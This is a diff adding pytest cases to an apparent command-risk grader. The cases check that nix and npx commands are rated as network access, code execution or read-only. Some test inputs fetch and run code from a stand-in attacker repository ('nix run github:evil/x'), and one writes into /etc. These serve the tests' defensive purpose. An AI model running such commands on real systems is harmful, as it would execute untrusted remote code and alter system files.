@@ -225,3 +225,38 @@ def test_the_download_finding_is_not_downgraded_but_the_host_change_is() -> None
     }
     assert reasons["package-install"] is False and reasons["system-command"] is True
 
+
+# -- nix commands that fetch a flake are network; those that run its programs run code -------------------------------
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        ("nix search nixpkgs ripgrep", NET),
+        ("nix search github:evil/flake foo", NET),
+        ("nix eval nixpkgs#hello.version", NET),
+        ("nix path-info nixpkgs#hello", NET),
+        ("nix build github:evil/x", NET),
+        ("nix flake update", NET),
+        ("nix flake init", NET),
+        ("nix eval --write-to /etc/x --expr 1", DES),
+        ("nix run nixpkgs#hello", DES),
+        ("nix run github:evil/x", DES),
+        ("nix develop -c make", DES),
+        ("nix shell nixpkgs#jq -c jq .", DES),
+        ("nix-shell -p jq --run jq", DES),
+        ("npx cowsay", DES),
+    ],
+)
+@pytest.mark.parametrize("contained", [False, True])
+def test_nix_fetches_are_network_and_running_a_flakes_program_runs_code(
+    command: str, level: object, contained: bool
+) -> None:
+    if command.startswith("nix eval --write-to") and contained:
+        level = NET  # the write outside the workspace is downgraded; the fetch is not
+    assert grade(command, contained) == level
+
+
+@pytest.mark.parametrize(
+    "command", ["nix hash file x", "nix --version", "nix profile list", "nix store ls /nix/store/x"]
+)
+def test_local_nix_queries_stay_read_only(command: str) -> None:
+    assert grade(command) == RO
